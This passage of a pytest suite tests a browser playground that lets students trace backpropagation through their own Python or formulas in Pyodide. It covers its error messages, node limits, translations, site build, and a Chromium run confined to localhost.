"""The browser playground (issue 13): its Python half, its builder, and the built site in Chromium.

The first part runs ``playground/playground_runner.py`` (the code Pyodide runs in the page's
worker) in this interpreter and checks what it answers against microgradnet itself. The second
part checks ``microgradnet playground``'s builder without npm. The last part builds the site
(``npm ci`` from the lock file when ``playground/node_modules`` does not match it; the build is
kept in ``out/playground-site`` and reused while its inputs are unchanged), serves it on
127.0.0.1, and drives it with Playwright and Debian's Chromium, refusing every request that is
not to 127.0.0.1 and asserting that none was made. Without npm or Chromium those tests skip; in
CI (the environment variable CI set) they fail instead.
"""

from __future__ import annotations

import gzip
import importlib.util
import json
import os
import random
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any
from urllib.parse import quote

import pytest

import microgradnet
from microgradnet.cli import CliError, main
from microgradnet.cli import playground as builder
from microgradnet.examples import EXAMPLES, load_example
from microgradnet.viz.expr import parse_expression
from microgradnet.viz.html import HtmlStepper

ROOT = Path(__file__).resolve().parent.parent
SOURCE = ROOT / "playground"
SITE = ROOT / "out" / "playground-site"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
LECTURE = {"a": 2.0, "b": -3.0, "c": 10.0, "f": -2.0}


def _load(name: str, path: Path) -> ModuleType:
    spec = importlib.util.spec_from_file_location(name, path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


runner = _load("playground_runner", SOURCE / "playground_runner.py")


def _in_ci() -> bool:
    return os.environ.get("CI", "").strip().lower() not in ("", "0", "false", "no")


# --------------------------------------------------------------------------------------------
# The Python half (what the worker runs), in this interpreter
# --------------------------------------------------------------------------------------------


def as_json(data: Any) -> Any:
    """What the worker's answer is after its trip through JSON."""
    return json.loads(json.dumps(data))


def test_formula_answer_is_exactly_the_page_data_export_html_embeds() -> None:
    answer = runner.run({"kind": "formula", "formula": "(a*b + c) * f", "values": "a=2 b=-3, c = 10; f=-2"})
    root = parse_expression("(a*b + c) * f", LECTURE)
    stepper = HtmlStepper(root, title="Backpropagation through L = (a*b + c) * f")
    assert answer["ok"] and as_json(answer["data"]) == as_json(stepper.data())
    assert (answer["steps"], answer["nodes"], answer["output"]) == (len(stepper.steps), 7, "L")
    assert answer["title"] == stepper.title
    json.dumps(answer)  # the worker sends it as JSON


def test_code_runs_and_the_biggest_graph_is_traced_with_names_as_labels() -> None:
    code = "a = Value(2.0)\nb = Value(-3.0)\nL = a*b + a\nprint('L is', L.data)\n"
    answer = runner.run({"kind": "code", "code": code})
    assert answer["ok"] and answer["output"] == "L" and answer["stdout"] == "L is -4.0\n"
    assert answer["outputs"] == [["a", 1], ["b", 1], ["L", 4]]
    # the same graph built here: ∂L/∂a = b + 1 = -2, ∂L/∂b = a = 2 (labels from the variable names)
    a, b = microgradnet.Value(2.0, label="a"), microgradnet.Value(-3.0, label="b")
    L = a * b + a
    L.label = "L"
    assert as_json(answer["data"]) == as_json(HtmlStepper(L).data())
    picked = runner.run({"kind": "code", "code": code, "output": "b"})
    assert picked["output"] == "b" and picked["nodes"] == 1


@pytest.fixture
def pyodide_modules(monkeypatch: pytest.MonkeyPatch) -> None:
    """What start() installs in sys.modules (the ``micrograd`` package under microgradnet's
    modules) is undone after the test, so the rest of the suite sees the real packages."""
    for name in ("micrograd", "micrograd.engine", "micrograd.nn"):
        # recorded either way (monkeypatch.delitem records nothing for an absent key), then gone
        monkeypatch.setitem(sys.modules, name, sys.modules.get(name))
        del sys.modules[name]


def test_lecture_code_runs_under_microgradnet_and_micrograd_names(pyodide_modules: None) -> None:
    runner.install_micrograd_names()
    code = (
        "from micrograd.engine import Value\n"
        "from micrograd.nn import MLP\n"
        "n = MLP(3, [4, 4, 1], seed=0)\n"
        "xs = [[2.0, 3.0, -1.0], [3.0, -1.0, 0.5]]\n"
        "loss = sum((n(x) - y)**2 for x, y in zip(xs, [1.0, -1.0]))\n"
        "loss.backward()\n"
    )
    answer = runner.run(
        {"kind": "code", "code": code, "theme": "colorblind", "projector": True, "quiz": True}
    )
    assert answer["ok"] and answer["output"] == "loss"
    ui = answer["data"]["ui"]
    assert (ui["theme"], ui["projector"], ui["quiz"]) == ("colorblind", True, True)
    # a network's levels of detail come along: the page can show it a neuron or a layer at a time
    assert {level["level"] for level in answer["data"]["levels"]} >= {"neuron", "layer"}


def test_example_answer_carries_the_preset_title_and_source() -> None:
    name = next(iter(EXAMPLES))
    answer = runner.run({"kind": "example", "example": name})
    built = load_example(name)
    assert answer["ok"] and answer["title"] == built.title and answer["source"]["text"] == built.source
    assert json.loads(runner.info())["examples"] == [list(e) for e in microgradnet.examples.list_examples()]
    # where there is no NumPy, a preset that needs it is left out of the menu and explained
    script = (
        "import sys, json\n"
        "sys.modules['numpy'] = None\n"
        f"sys.path.insert(0, {str(SOURCE)!r})\n"
        "import playground_runner as r\n"
        "print(json.dumps([[e[0] for e in json.loads(r.info())['examples']],"
        " json.loads(r.handle(json.dumps({'kind': 'example', 'example': 'moons-mlp'})))]))\n"
    )
    names, answer = json.loads(
        subprocess.run([sys.executable, "-c", script], capture_output=True, check=True).stdout
    )
    assert "moons-mlp" not in names and "lecture-mlp" in names
    assert not answer["ok"] and "needs numpy, which the playground does not include" in answer["error"]


@pytest.mark.parametrize(
    ("code", "line", "needle"),
    [
        ("a = Value(2.0)\nb = a / 'x'\n", 2, "TypeError: unsupported operand"),
        ("a = Value(2.0)\nif a\n", 2, "SyntaxError"),
        ("def f(v):\n    return v.nope\nx = f(Value(1.0))\n", 2, "AttributeError"),
    ],
)
def test_an_error_in_student_code_names_its_line_and_hides_the_playgrounds_frames(
    code: str, line: int, needle: str
) -> None:
    answer = json.loads(runner.handle(json.dumps({"kind": "code", "code": code})))
    assert not answer["ok"] and answer["where"] == "code" and answer["line"] == line
    assert needle in answer["error"] and "playground_runner" not in answer["error"]
    if "Traceback" in answer["error"]:
        assert 'File "<your code>"' in answer["error"]


def test_printed_output_survives_an_error_and_is_cut_at_the_limit() -> None:
    answer = json.loads(runner.handle(json.dumps({"kind": "code", "code": "print('x' * 50000)\n1/0\n"})))
    assert not answer["ok"] and "ZeroDivisionError" in answer["error"]
    assert answer["stdout"] == "x" * runner.MAX_STDOUT


@pytest.mark.parametrize(
    ("request_", "where", "needle"),
    [
        ({"kind": "code", "code": "x = 1\n"}, "code", "no `Value` to trace"),
        ({"kind": "code", "code": "a = Value(1.0)\n", "output": "L"}, "code", "pick one of: a"),
        ({"kind": "code", "code": "exit()\n"}, "code", "no `Value`"),
        ({"kind": "formula", "formula": "a*b", "values": "a=2 b"}, "values", "not NAME=VALUE"),
        ({"kind": "formula", "formula": "a*b", "values": "a=2 b=1 a=3"}, "values", "a is given twice"),
        ({"kind": "formula", "formula": "a*b", "values": "a=2"}, "formula", "no value given for b"),
        ({"kind": "formula", "formula": "a.b", "values": ""}, "formula", "attribute access"),
        ({"kind": "formula", "formula": "a*b", "values": "a=1 b=2", "theme": "neon"}, "request", "theme"),
        ({"kind": "formula", "formula": "a", "values": "a=1", "node_limit": 0}, "request", "node_limit"),
        ({"kind": "example", "example": "nope"}, "request", "No example is called 'nope'"),
        ({"kind": "shell"}, "request", "kind must be formula, code or example"),
        (
            {"kind": "formula", "formula": "a", "values": "a=1", "lang": "xx"},
            "request",
            "lang must be one of en, ne",
        ),
        (
            {"kind": "code", "code": "x = Value(0.0)\nfor i in range(30): x = x + i\n", "node_limit": 20},
            "limit",
            "61 nodes",
        ),
    ],
)
def test_problems_are_told_to_the_student_with_the_box_they_are_about(
    request_: dict[str, Any], where: str, needle: str
) -> None:
    answer = json.loads(runner.handle(json.dumps(request_)))
    assert answer["ok"] is False and answer["where"] == where
    assert needle in answer["error"], answer["error"]


def test_graphs_a_request_built_are_taken_apart_without_recursion(monkeypatch: pytest.MonkeyPatch) -> None:
    # what the worker frees after each answer: every node of every graph the student's code
    # left in its variables, lists and objects, cut from its operands (CPython would otherwise
    # free a deep chain recursively, which overflows the browser's stack: issue-13 audit 3a)
    cut: list[Any] = []
    dismantle = runner._dismantle
    monkeypatch.setattr(runner, "_dismantle", lambda held: cut.extend(held) or dismantle(held))
    code = (
        "x = Value(0.0)\nfor i in range(2000):\n    x = x + 1\n"
        "xs = [Value(float(i)) for i in range(300)]\nL = sum(xs)\n"
        "class Box:\n    pass\nbox = Box()\nbox.kept = {'w': (Value(1.0) * 2,), 'k': {Value(5.0) + 1: 1}}\n"
    )
    answer = json.loads(runner.handle(json.dumps({"kind": "code", "code": code})))
    assert (
        answer["where"] == "limit"
        and "has 4001 nodes" in answer["error"]
        and "at most 1000" in answer["error"]
    )
    namespace = cut[0]
    kept = namespace["box"].kept
    values = [namespace["x"], namespace["L"], *namespace["xs"], kept["w"][0], *kept["k"]]
    assert all(v.children == () for v in values)
    assert [v.data for v in (namespace["x"], namespace["L"])] == [2000.0, sum(range(300))]  # only cut
    # a failing function's variables (kept by the traceback) too, and a formula's graph
    failing = "def f():\n    y = Value(0.0)\n    for i in range(50): y = y + 1\n    return 1 / 0\nf()\n"
    assert json.loads(runner.handle(json.dumps({"kind": "code", "code": failing})))["where"] == "code"
    assert [frame["y"].data for frame in cut[1:] if "y" in frame] == [50.0]
    assert [frame["y"].children for frame in cut[1:] if "y" in frame] == [()]
    assert runner.run({"kind": "formula", "formula": "a*b + a", "values": "a=2 b=3"})["ok"]
    assert cut[-1].op == "add" and cut[-1].children == ()
    # the walk: shared nodes counted once, a node outside what it was given left alone
    a, b = microgradnet.Value(2.0), microgradnet.Value(3.0)
    outside = a * b
    held = [[a + b, (a * b) ** 2], {"k": a}]
    assert dismantle(held) == 5 and outside.children == (a, b)  # a+b, a, b, (a*b)**2, a*b


def test_the_steppers_exercises_come_from_the_same_html_stepper_as_microgradnet_step() -> None:
    from microgradnet.viz.steps import page_strings

    formula = {"kind": "formula", "formula": "(a*b + c) * f", "values": "a=2 b=-3 c=10 f=-2"}
    title = "Backpropagation through L = (a*b + c) * f"
    root = parse_expression("(a*b + c) * f", LECTURE)
    found = runner.run({**formula, "bug": "random", "seed": 3})
    stepper = HtmlStepper(root, title=page_strings()["find_title"].format(title=title), bug="random", seed=3)
    assert found["data"]["ui"]["find"] and as_json(found["data"]) == as_json(stepper.data())
    assert found["title"] == "Find the slip: " + title
    faded = runner.run({**formula, "fade": 2})
    assert as_json(faded["data"]) == as_json(HtmlStepper(root, title=title, fade=2).data())
    assert [k for k, step in enumerate(faded["data"]["steps"]) if step.get("faded")] == [9, 10]
    # an exercise that cannot apply is told, in the words of HtmlStepper's own check
    for extra, needle in [
        ({"bug": "nope"}, "no slip kind 'nope'"),
        ({"bug": "sign"}, "cannot plant 'sign'"),
        ({"seed": 2}, "give bug= too"),
        ({"bug": "fanout", "quiz": True}, "two exercises"),
        ({"fade": 99}, "from 0 to 6"),
        ({"bug": 3}, "bug must be text"),
    ]:
        answer = json.loads(runner.handle(json.dumps({**formula, **extra})))
        assert answer["ok"] is False and answer["where"] == "request" and needle in answer["error"], answer


def test_exit_keeps_what_ran_before_it() -> None:
    answer = runner.run({"kind": "code", "code": "a = Value(3.0)\nb = a * a\nexit()\nc = Value(1.0)\n"})
    assert answer["ok"] and answer["note"] == runner.MESSAGES["exit"] and answer["output"] == "b"
    assert [name for name, _ in answer["outputs"]] == ["a", "b"]


def test_each_run_is_a_fresh_program_for_the_op_table() -> None:
    code = (
        "from microgradnet import apply, register_op\n"
        "register_op('cube', forward='x**3', grads=['3*x**2'], params=['x'])\n"
        "a = Value(2.0, label='a')\n"
        "L = apply('cube', a)\n"
    )
    before = dict(microgradnet.OPS)
    first, second = runner.run({"kind": "code", "code": code}), runner.run({"kind": "code", "code": code})
    assert first["ok"] and second["ok"] and as_json(first["data"]) == as_json(second["data"])
    assert "cube" not in microgradnet.OPS and before == microgradnet.OPS  # the op lasted for its own run only


def test_a_class_of_its_own_called_value_is_explained() -> None:
    code = "class Value:\n    def __init__(self, data):\n        self.data = data\nL = Value(2.0)\n"
    answer = json.loads(runner.handle(json.dumps({"kind": "code", "code": code})))
    assert not answer["ok"] and "defines its own `Value` class" in answer["error"]


def test_a_request_in_nepali_gets_the_stepper_and_the_messages_in_nepali() -> None:
    from microgradnet.viz.playground import playground_strings

    ne = playground_strings("ne")
    answer = runner.run({"kind": "example", "example": "cs231n-circuit", "lang": "ne"})
    english = runner.run({"kind": "example", "example": "cs231n-circuit"})
    stepper = HtmlStepper(load_example("cs231n-circuit").root, lang="ne")
    # exactly the page data of the Nepali stepper, title included (a preset's title is English)
    assert as_json(answer["data"]) == as_json(stepper.data()) and answer["title"] == stepper.title
    assert english["data"]["ui"]["lang"] == "en" and english["title"] == load_example("cs231n-circuit").title
    formula = runner.run(
        {"kind": "formula", "formula": "e = a*b; L = e + c", "values": "a=2 b=-3 c=10", "lang": "ne"}
    )
    assert formula["title"] == "e = a*b; L = e + c मार्फत ब्याकप्रोपोगेसन"
    # the playground's own sentences come from the same table, with code kept as code
    refused = json.loads(runner.handle(json.dumps({"kind": "code", "code": "x = 1\n", "lang": "ne"})))
    assert refused["error"] == ne["no_value"] and refused["markup"] is True and "`Value`" in refused["error"]
    big = {"kind": "code", "code": "x = Value(0.0)\nfor i in range(30): x = x + i\n", "node_limit": 20}
    said = json.loads(runner.handle(json.dumps({**big, "lang": "ne"})))
    assert said["error"] == ne["too_many_nodes"].format(name="x", count=61, limit=20)
    # a traceback is Python's own text: plain, not markup
    crashed = json.loads(runner.handle(json.dumps({"kind": "code", "code": "1/0\n", "lang": "ne"})))
    assert crashed["markup"] is False and "ZeroDivisionError" in crashed["error"]
    assert runner._said == [runner.MESSAGES]  # the next request starts in English again


def test_malformed_json_gets_an_answer_not_an_exception() -> None:
    answer = json.loads(runner.handle("{not json"))
    assert answer["ok"] is False and answer["where"] == "request" and "not JSON" in answer["error"]


def test_the_runner_imports_microgradnet_without_numpy_or_what_pyodide_lacks() -> None:
    # In Pyodide there is no NumPy, nor some of the standard library (fcntl, resource, ssl, ...):
    # the runner must import the engine, parser, trace and stepper and answer a request without
    # them. (The site's build runs the same imports in Pyodide itself, for the snapshot.)
    script = (
        "import sys, json\n"
        "for name in ('numpy', 'fcntl', 'resource', 'termios', 'ssl', 'sqlite3', 'lzma', 'curses'):\n"
        "    sys.modules[name] = None\n"
        f"sys.path.insert(0, {str(SOURCE)!r})\n"
        "import playground_runner as r\n"
        "r.prepare()\n"
        "a = json.loads(r.handle(json.dumps({'kind': 'formula', 'formula': 'a*b', 'values': 'a=2 b=3'})))\n"
        "m = sys.modules['microgradnet']\n"
        "numpy = 'numpy' in str(sys.modules.get('numpy'))\n"
        "print(json.dumps([a['ok'], a['nodes'], m.Value(2.0).data, numpy]))\n"
    )
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert json.loads(proc.stdout) == [True, 3, 2.0, False]


def test_start_reseeds_random_so_a_snapshot_does_not_repeat_weights(pyodide_modules: None) -> None:
    draws = []
    for _ in range(2):
        random.seed(0)  # what a memory snapshot would restore every time
        info = json.loads(runner.start())
        draws.append(random.random())
    assert draws[0] != draws[1] and info["python"] == sys.version.split()[0]
    assert sys.modules["micrograd.engine"] is sys.modules["microgradnet.engine"]
    runner._notify.clear()


# --------------------------------------------------------------------------------------------
# The builder, without npm
# --------------------------------------------------------------------------------------------


def test_python_zip_is_byte_identical_and_holds_the_sources_the_page_needs() -> None:
    package = Path(microgradnet.__file__).parent
    first = builder.python_zip(package, SOURCE / "playground_runner.py")
    assert first == builder.python_zip(package, SOURCE / "playground_runner.py")
    names = zipfile.ZipFile(__import__("io").BytesIO(first)).namelist()
    for needed in ("microgradnet/engine.py", "microgradnet/viz/expr.py", "microgradnet/viz/stepper.js",
                   "microgradnet/viz/stepper.css", "playground_runner.py"):  # fmt: skip
        assert needed in names
    assert not [n for n in names if "__pycache__" in n or "datasets" in n or n.endswith(".gz")]
    assert names == sorted(names)


def test_stepper_files_are_the_ones_export_html_inlines() -> None:
    inlined = HtmlStepper(parse_expression("a*b", {"a": 1, "b": 2})).fragment()
    for name in ("stepper.js", "stepper.css"):
        text = builder._stepper_asset(name).decode("utf-8")
        assert text.strip() and text.strip() in inlined, name
    assert "MicrogradnetStepper = { api: API, mount: mount" in builder._stepper_asset("stepper.js").decode()


def test_every_text_of_the_page_comes_from_the_playgrounds_table() -> None:
    from microgradnet.viz.playground import PLAYGROUND_STRINGS

    page = (SOURCE / "index.html").read_text(encoding="utf-8")
    script = (SOURCE / "playground.js").read_text(encoding="utf-8")
    python = (SOURCE / "playground_runner.py").read_text(encoding="utf-8")
    in_page = set(re.findall(r"\{\{t:(\w+)\}\}|data-t(?:-aria-label)?=\"(\w+)\"", page))
    page_keys = {k for pair in in_page for k in pair if k}
    script_keys = set(re.findall(r"\b(?:T|table)\.(\w+)", script)) | set(
        re.findall(r"\b(?:say|setStatus|restart)\(\"(\w+)\"", script)
    )
    script_keys |= {k for k in re.findall(r'"(\w+)"', script) if k.startswith("error_")}
    # (one call picks between two: _say("own_value" if ... else "no_value"))
    runner_keys = set(re.findall(r'_say\(\s*"(\w+)"', python)) | {"no_value"}
    used = page_keys | script_keys | runner_keys
    assert used <= set(PLAYGROUND_STRINGS), used - set(PLAYGROUND_STRINGS)
    assert set(PLAYGROUND_STRINGS) <= used, set(PLAYGROUND_STRINGS) - used  # no text left unused
    # the page fills its own texts with {name} only (no !r or format specs: those are Python's)
    for key in page_keys | script_keys:
        assert not re.search(r"\{\w*[!:]", PLAYGROUND_STRINGS[key]), key
    # the page itself holds no English sentence: every text is a {{t:...}} of the table
    visible = re.sub(r"<(script|style|title)[^>]*>.*?</\1>|<[^>]+>|\{\{[^}]*\}\}", " ", page, flags=re.S)
    assert not re.findall(r"[A-Za-z]{3,}", visible.replace("(a*b + c) * f", "")), visible
    english = builder.page_html(page, {"CONFIG": "{}", "BUILD": "b", "VERSION": "v"})
    assert "{{" not in english and "<code>e = a*b; L = e + c</code>" in english
    assert '<option value="ne" lang="ne">नेपाली</option>' in english
    assert 'aria-label="Python code (Ctrl+Enter runs it;' in english
    with pytest.raises(KeyError, match="nope"):
        builder.page_html("<p>{{t:nope}}</p>", {})


def test_the_benchmarks_step_verdict_says_exactly_what_is_met() -> None:
    # issue-13 audit: "met" used to mean the slowest handling and the median frame
    bench = _load("bench_playground", ROOT / "benchmarks" / "playground.py")
    assert bench.verdict("handling", [6.4, 19.8, 50.0], 50) == "handling met for every step"
    frames = [34.0, 30.0, 55.9, 41.0]
    assert bench.verdict("the next frame", frames, 50) == (
        "the next frame met for the median step but NOT for every step "
        "(1 of 4 steps took longer, the slowest 55.9 ms)"
    )
    assert "NOT met, not even for the median step (3 of 4" in bench.verdict("x", [60.0, 70.0, 10.0, 51.0], 50)


def test_find_source_explains_what_is_missing(tmp_path: Path) -> None:
    assert builder.find_source() == SOURCE
    with pytest.raises(CliError, match="is not a folder"):
        builder.find_source(tmp_path / "nowhere")
    (tmp_path / "package.json").write_text("{}")
    with pytest.raises(CliError, match=r"lacks package-lock\.json, index\.html"):
        builder.find_source(tmp_path)


def test_output_folder_must_be_new_empty_or_an_earlier_build(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(CliError, match="not empty and is not a playground build"):
        builder.build_site(tmp_path)
    with pytest.raises(CliError, match="is a file"):
        builder.build_site(tmp_path / "notes.txt")
    with pytest.raises(CliError, match="does not exist"):
        builder.build_site(tmp_path / "a" / "b")
    assert [p.name for p in tmp_path.iterdir()] == ["notes.txt"]  # nothing written


def test_missing_npm_is_a_clear_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "playground"
    shutil.copytree(SOURCE, source, ignore=shutil.ignore_patterns("node_modules"))
    monkeypatch.setattr(builder.shutil, "which", lambda name: None)
    code = main(["playground", "-o", str(tmp_path / "site"), "--source", str(source)])
    assert code == 2 and not (tmp_path / "site").exists()
    err = capsys.readouterr().err
    assert (
        "microgradnet: error: building the playground needs npm" in err
        and "apt-get install nodejs npm" in err
    )


# --------------------------------------------------------------------------------------------
# The built site in Chromium
# --------------------------------------------------------------------------------------------


def _need(problem: str) -> None:
    if _in_ci():
        pytest.fail(f"CI is set, so a skipped playground test is a failure: {problem}")
    pytest.skip(problem)


@pytest.fixture(scope="module")
def site() -> Path:
    if shutil.which("npm") is None or shutil.which("node") is None:
        _need("building the playground needs Node.js and npm (Debian: apt-get install nodejs npm)")
    try:
        current = json.loads((SITE / "build.json").read_text())["inputs"]
    except (OSError, ValueError, KeyError):
        current = None
    if current != builder.inputs_fingerprint(SOURCE):
        SITE.parent.mkdir(exist_ok=True)
        assert main(["playground", "-o", str(SITE)]) == 0  # the command the docs give
    return SITE


def test_built_site_is_complete_and_names_nothing_outside_itself(site: Path, tmp_path: Path) -> None:
    record = json.loads((site / "build.json").read_text())
    for name, entry in record["files"].items():
        data = (site / name).read_bytes()
        assert len(data) == entry["bytes"] and builder._sha(data) == entry["sha256"], name
    page = (site / "index.html").read_text()
    assert "Content-Security-Policy" in page and "connect-src 'self'" in page
    # the Devanagari font is a file of the site (font-src 'self'), not a data: URL
    assert "font-src 'self';" in page and "data:" not in re.search(r"font-src[^;]*;", page).group(0)
    fonts = (site / "fonts.css").read_text()
    assert f"url({builder.FONT_FILE}?v=" in fonts and "base64" not in fonts
    assert (site / builder.FONT_FILE).read_bytes() == __import__("microgradnet.locales").locales.font_bytes(
        "ne"
    )
    for name in ("index.html", "playground.js", "worker.js", "stepper.js"):
        assert not re.search(r"https?://", (site / name).read_text()), name
    assert record["snapshot"]["pyodide"] == record["pyodide"]
    # a published snapshot holds no path of the machine that built it
    memory = gzip.decompress((site / "python.snapshot.gz").read_bytes())
    assert str(ROOT).encode() not in memory and len(memory) == record["snapshot"]["bytes"]
    # without the snapshot: the page's config says so, and the folder is replaced as a whole
    plain = tmp_path / "plain"
    shutil.copytree(site, plain)
    (plain / "python.snapshot.gz").write_bytes(b"stale")
    assert main(["playground", "-o", str(plain), "--no-snapshot"]) == 0
    assert not (plain / "python.snapshot.gz").exists()
    assert '"snapshot":null' in (plain / "index.html").read_text()


@pytest.fixture(scope="module")
def base_url(site: Path) -> Iterator[str]:
    bench = _load("bench_playground", ROOT / "benchmarks" / "playground.py")
    with bench.serve(site) as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        _need(f"the playground test needs Chromium at {CHROMIUM} (sudo apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        try:
            yield chromium
        finally:
            chromium.close()


class Tab:
    """A page in its own context: requests beyond 127.0.0.1 are refused and recorded."""

    def __init__(self, browser: Any, url: str) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
        self.refused: list[str] = []
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.failed: dict[str, str] = {}
        self.dialogs: list[str] = []

        def route(r: Any) -> None:
            if r.request.url.startswith("http://127.0.0.1:"):
                r.continue_()
            else:
                self.refused.append(r.request.url)
                r.abort()

        self.context.route(re.compile(".*"), route)
        self.page = self.context.new_page()
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.on("requestfailed", lambda r: self.failed.__setitem__(r.url, str(r.failure)))
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.goto(url)
        self.wait_ready()

    def wait_ready(self) -> None:
        self.page.wait_for_selector('html[data-pg-ready="true"]', timeout=90_000)

    def wait_runs(self, n: int) -> None:
        self.page.wait_for_selector(f'html[data-pg-runs="{n}"]', timeout=90_000)

    def text(self, selector: str) -> str:
        return str(self.page.locator(selector).first.text_content())

    def node_text(self, name: str, field: str) -> str:
        return str(
            self.page.evaluate(
                """([name, field]) => {
                  for (const g of document.querySelectorAll("#pg-stepper [data-mg-node]")) {
                    const label = g.querySelector(".mg-name");
                    if (label && label.textContent === name)
                      return g.querySelector(".mg-" + field).textContent;
                  }
                  return null;
                }""",
                [name, field],
            )
        )

    def close(self) -> None:
        # nothing was fetched from anywhere but the page's own server: the test's router refused
        # nothing, and every other request the page tried was stopped by its own CSP
        assert self.refused == [], self.refused
        local = ("http://127.0.0.1:", "blob:http://127.0.0.1:")
        assert all(u.startswith(local) or self.failed.get(u) == "csp" for u in self.requests), self.requests
        assert self.errors == [] and self.dialogs == [], (self.errors, self.dialogs)
        self.context.close()


def test_typed_formula_shows_the_lectures_gradients(browser: Any, base_url: str) -> None:
    tab = Tab(browser, base_url + "index.html")
    tab.wait_runs(1)  # the default formula
    assert tab.page.get_attribute("html", "data-pg-snapshot") == "true"  # Python restored, not rebuilt
    tab.page.fill("#pg-expr", "e = a*b; d = e + c; L = d*f")
    tab.page.fill("#pg-values", "a=2 b=-3 c=10 f=-2")
    tab.page.press("#pg-values", "Enter")
    tab.wait_runs(2)
    stepper = HtmlStepper(parse_expression("e = a*b; d = e + c; L = d*f", LECTURE))
    assert tab.text("#pg-stepper .mg-n") == str(len(stepper.steps))
    tab.page.keyboard.press("End")  # the stepper has the focus after Enter
    # Karpathy's lecture: dL/da = 6, dL/db = -4, dL/dc = -2, dL/df = 4
    grads = [tab.node_text(v, "grad") for v in "abcf"]
    assert grads == ["grad 6", "grad -4", "grad -2", "grad 4"]
    assert tab.text("#pg-stepper .mg-sym") == stepper.steps[-1]["lines"][0]
    assert tab.page.url.endswith(f"#expr=e%20%3D%20a*b%3B%20d%20%3D%20e%20%2B%20c%3B%20L%20%3D%20d*f"
                                 f"&a=2&b=-3&c=10&f=-2&step={len(stepper.steps)}")  # fmt: skip
    assert tab.page.input_value("#pg-link") == tab.page.url
    tab.close()


def test_shared_link_opens_at_its_step_with_its_options(browser: Any, base_url: str) -> None:
    link = "index.html#expr=(a*b%2Bc)*f&a=2&b=-3&c=10&f=-2&step=9&theme=colorblind&projector=1"
    tab = Tab(browser, base_url + link)
    tab.wait_runs(1)
    stepper = HtmlStepper(parse_expression("(a*b+c)*f", LECTURE))
    assert tab.text("#pg-stepper .mg-k") == "9"
    assert tab.text("#pg-stepper .mg-step-title") == stepper.steps[8]["title"]
    assert tab.text("#pg-stepper .mg-update") == stepper.steps[8]["lines"][2]
    classes = str(tab.page.get_attribute("#pg-stepper .mg-stepper", "class"))
    assert "mg-theme-colorblind" in classes and "mg-projector" in classes
    assert tab.page.input_value("#pg-expr") == "(a*b+c)*f"
    tab.page.click("#pg-stepper [data-act='next']")
    assert tab.page.url.endswith("&step=10&theme=colorblind&projector=1")
    tab.page.evaluate("() => { location.hash = '#example=cs231n-neuron&step=3'; }")  # a link pasted in
    tab.wait_runs(2)
    assert tab.text("#pg-stepper .mg-title") == load_example("cs231n-neuron").title
    assert tab.text("#pg-stepper .mg-k") == "3"
    # a network opens at the level of detail the link names, and the link keeps it
    tab.page.evaluate("() => { location.hash = '#example=lecture-mlp&view=layer&step=2'; }")
    tab.wait_runs(3)
    assert (
        tab.page.get_attribute("#pg-stepper [data-act='level'][aria-pressed='true']", "data-level") == "layer"
    )
    assert tab.text("#pg-stepper .mg-k") == "2" and tab.page.url.endswith(
        "#example=lecture-mlp&step=2&view=layer"
    )
    # opened fresh, before Python has listed the examples, the menu still shows the link's one
    tab.page.goto(base_url + "index.html?fresh#example=lecture-mlp")
    tab.wait_runs(1)
    assert tab.page.input_value("#pg-example") == "lecture-mlp"
    tab.close()


def test_code_link_waits_for_run_and_an_infinite_loop_is_stopped(browser: Any, base_url: str) -> None:
    loop = "x = Value(1.0)\nwhile True:\n    x = x + 1\n"
    tab = Tab(browser, base_url + "index.html#code=" + quote(loop) + "&limit=2")
    assert tab.page.input_value("#pg-editor") == loop
    assert "runs only when you press Run" in tab.text("#pg-message")
    tab.page.wait_for_timeout(300)
    assert tab.page.get_attribute("html", "data-pg-runs") is None  # nothing ran by itself
    assert tab.page.locator("#pg-stepper .mg-stepper").count() == 0
    tab.page.click("#pg-run")
    tab.page.wait_for_selector('html[data-pg-busy="true"]')
    assert tab.page.evaluate("() => 6 * 7") == 42  # the tab is not frozen while the loop runs
    tab.page.wait_for_selector(".pg-message.pg-timeout", timeout=30_000)
    message = tab.text("#pg-message")
    assert "still running after 2 s, the time limit" in message and "loop that never ends" in message
    tab.wait_ready()  # a fresh worker
    tab.page.fill("#pg-editor", "a = Value(2.0)\nb = Value(-3.0)\nL = a*b + a\n")
    tab.page.press("#pg-editor", "Control+Enter")
    tab.wait_runs(1)
    tab.page.click("#pg-stepper [data-act='last']")
    assert (tab.node_text("a", "grad"), tab.node_text("b", "grad")) == ("grad -2", "grad 2")
    tab.close()


def test_a_deep_graph_gets_the_node_limit_and_a_crash_restarts_python(browser: Any, base_url: str) -> None:
    # issue-13 audit 3a: freeing these chains used to overflow the worker's stack and kill Pyodide
    chain = "x = Value(0.0)\nfor i in range(2000):\n    x = x + 1\n"
    tab = Tab(browser, base_url + "index.html#code=" + quote(chain))
    tab.page.click("#pg-run")
    tab.wait_runs(1)
    assert "The graph of x has 4001 nodes" in tab.text("#pg-message") and "at most 1000" in tab.text(
        "#pg-message"
    )
    tab.page.fill("#pg-editor", "xs = [Value(float(i)) for i in range(20000)]\nL = sum(xs)\n")
    tab.page.click("#pg-run")
    tab.wait_runs(2)
    assert "The graph of L has 40001 nodes" in tab.text("#pg-message")
    # a chain thrown away inside the student's code still overflows: the page says so and
    # starts a fresh Python, as after the time limit, instead of using the dead one
